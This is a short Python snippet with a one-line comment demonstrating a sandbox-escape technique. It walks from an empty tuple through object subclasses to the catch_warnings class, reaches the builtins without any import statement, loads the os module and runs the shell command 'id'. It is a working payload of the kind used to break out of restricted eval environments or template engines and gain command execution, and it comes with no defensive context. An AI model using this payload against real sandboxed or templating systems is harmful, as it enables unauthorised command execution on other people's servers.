# Walking the object graph to the builtins, with no import at all.
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "catch_warnings":
        b = cls()._module.__builtins__
        b["__import__"]("os").system("id")
